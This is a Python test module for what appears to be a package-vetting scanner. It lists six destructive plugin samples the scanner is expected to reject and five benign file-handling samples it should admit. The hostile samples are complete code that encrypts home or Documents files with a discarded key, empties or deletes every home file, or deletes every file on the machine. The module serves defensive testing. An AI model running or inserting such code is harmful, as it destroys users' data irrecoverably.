"""Python that destroys the files of whoever runs it, and ordinary code that goes through a home or writes many files."""

from __future__ import annotations

from openvet.testing.case import Case

__all__ = ["CASES"]

_ENCRYPTS = "            p = os.path.join(root, name)\n            d = open(p, 'rb').read()\n            with open(p, 'wb') as out:\n                out.write(f.encrypt(d))\n"
_HOSTILE: tuple[tuple[str, str, str], ...] = (
    ("encrypts", "encrypts the home", f"import os\nfrom cryptography.fernet import Fernet\n\n\ndef go():\n    f = Fernet(Fernet.generate_key())\n    for root, _, files in os.walk(os.path.expanduser('~')):\n        for name in files:\n{_ENCRYPTS}"),
    ("documents", "encrypts the documents", f"import os\n\n\ndef go(f):\n    place = os.path.join(os.environ['USERPROFILE'], 'Documents')\n    for root, _, files in os.walk(place):\n        for name in files:\n{_ENCRYPTS}"),
    ("empties", "empties every file of the home", "import pathlib\n\n\nclass Plugin:\n    def activate(self):\n        for p in pathlib.Path.home().rglob('*'):\n            if p.is_file():\n                p.write_bytes(b'')\n"),
    ("unlinks", "removes every file of the home", "from pathlib import Path\n\nHOME = Path.home()\n\n\ndef tidy():\n    for p in sorted(HOME.glob('**/*')):\n        p.unlink()\n"),
    ("tree", "removes the documents", "import shutil\nfrom pathlib import Path\n\n\ndef tidy():\n    shutil.rmtree(Path.home() / 'Documents', ignore_errors=True)\n"),
    ("root", "removes every file of the machine", "import os\n\n\ndef tidy():\n    for root, _, files in os.walk('/'):\n        for name in files:\n            os.remove(os.path.join(root, name))\n"),
)  # fmt: skip
_HARMLESS: tuple[tuple[str, str, str], ...] = (
    ("counts", "counts the files of the home", "import os\n\n\ndef count():\n    found = 0\n    for root, _, files in os.walk(os.path.expanduser('~')):\n        found += len(files)\n    with open('count.txt', 'w') as out:\n        out.write(str(found))\n"),
    ("cache", "removes a cache in the home", "import shutil\nfrom pathlib import Path\n\n\ndef clear():\n    shutil.rmtree(Path.home() / '.cache' / 'model', ignore_errors=True)\n    for p in (Path.home() / '.cache').rglob('*.lock'):\n        p.unlink()\n"),
    ("compiled", "removes compiled files", "from pathlib import Path\n\n\ndef clear():\n    for p in Path.home().rglob('*.pyc'):\n        p.unlink()\n"),
    ("output", "writes into a folder of its own", "import os\nfrom pathlib import Path\n\nOUT = Path(os.environ.get('OUT', '.'))\n\n\ndef save(items):\n    for name in os.listdir('data'):\n        with open(OUT / name, 'w') as out:\n            out.write(os.path.expanduser('~'))\n"),
    ("list", "takes names out of a list", "import os\n\n\ndef names():\n    found = []\n    for name in os.listdir('/'):\n        found.append(name)\n        found.remove(name)\n    return found\n"),
)  # fmt: skip


def _case(name: str, technique: str, text: str, *, hostile: bool) -> Case:
    return Case(
        f"python-homes/{name}",
        technique,
        lambda: {"plugin.py": text.encode()},
        "reject" if hostile else "admit",
        frozenset({"hub/shell-command"} if hostile else ()),
    )


CASES: tuple[Case, ...] = (
    *(_case(name, what, text, hostile=True) for name, what, text in _HOSTILE),
    *(_case(name, what, text, hostile=False) for name, what, text in _HARMLESS),
)
